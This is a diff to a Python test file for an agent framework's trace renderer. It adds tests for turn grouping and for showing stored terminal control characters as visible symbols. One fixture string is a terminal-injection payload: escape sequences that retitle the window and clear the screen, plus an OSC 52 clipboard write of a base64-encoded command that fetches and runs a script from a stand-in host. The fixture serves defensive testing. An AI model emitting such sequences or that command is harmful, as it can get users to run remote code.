@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from datetime import timedelta
 
 from rich.console import Console
@@ -14,8 +15,9 @@ from agents_core.db import (
     SessionsRepository,
     ToolCallsRepository,
 )
-from agents_core.trace import group_turns, render_session_tree, run_timeline, turn_steps
-from tests.helpers import make_agent, make_session
+from agents_core.runner import AgentRunner, ModelResponse, ScriptedModel, ToolRegistry, ToolRequest
+from agents_core.trace import group_turns, render_session_tree, run_timeline, turn_steps, visible
+from tests.helpers import Clock, make_agent, make_session
 from tests.recorded import HOSTILE_TITLE, MARKUP, SCRIPT, record_demo, record_hostile
 
 
@@ -39,6 +41,15 @@ async def test_runs_go_to_their_turn_and_steps_are_in_call_order(backend: str) -
     # A run from before the first message shown is left out, not put in a wrong turn.
     later = group_turns(demo.session.messages[4:], demo.runs)
     assert [[run.id for run in turn.runs] for turn in later] == [[r.id] for r in demo.runs[1:]]
+
+
+async def test_runs_go_to_their_turn_when_turns_share_a_millisecond(
+    backend: str, clock: Clock
+) -> None:
+    demo = await record_demo()  # the clock stands still: every write in one millisecond
+    turns = group_turns(demo.session.messages, demo.runs)
+    assert [run.input_seq for run in demo.runs] == [t.user.seq for t in turns if t.user]
+    assert [[run.id for run in turn.runs] for turn in turns] == [[run.id] for run in demo.runs]
 
 
 async def test_a_timeline_places_calls_by_start_and_recorded_duration(backend: str) -> None:
@@ -157,3 +168,33 @@ async def test_a_window_of_the_latest_messages_says_so(backend: str) -> None:
     text = rendered(render_session_tree(session, runs))
     assert "(latest 5 of 12 messages)" in text
     assert "begins before the messages shown" in text  # message 8 is mid-turn
+
+
+#: What a web page a tool fetched, or a model, may hold: set the window title (OSC 0), put a
+#: command on the clipboard (OSC 52), clear the screen, and a C1 CSI and DEL.
+TERMINAL_ATTACK = "t\x1b]0;owned\x07 c\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 x\x1b[2J y\x9b31m z\x7f"
+
+
+async def test_stored_control_characters_are_shown_not_sent_to_the_terminal(
+    backend: str,
+) -> None:
+    agent = await make_agent("echo-terminal", tools=["echo"])
+    session = await make_session("terminal")
+    await SessionsRepository().set_active_agent(session.id, agent.id)
+    model = ScriptedModel(
+        [
+            ModelResponse(tool_calls=[ToolRequest("echo", json.dumps({"text": TERMINAL_ATTACK}))]),
+            ModelResponse(text=f"answer {TERMINAL_ATTACK}", finish_reason=f"stop{TERMINAL_ATTACK}"),
+        ]
+    )
+    await AgentRunner(model, ToolRegistry({"echo": lambda text: text})).run(
+        session.id, f"ask {TERMINAL_ATTACK}"
+    )
+    found = await SessionsRepository().find_by_id(session.id)
+    runs = await RunsRepository().list_by_session(session.id)
+    text = rendered(render_session_tree(found, runs))  # no styles: every ESC would be stored text
+    for raw in ("\x1b", "\x07", "\x9b", "\x7f"):
+        assert raw not in text, repr(raw)
+    assert "t␛]0;owned␇" in text
+    assert "x␛[2J y\\x9b31m z␡" in text
+    assert visible("a\nb\tc\x00") == "a\nb\tc␀"
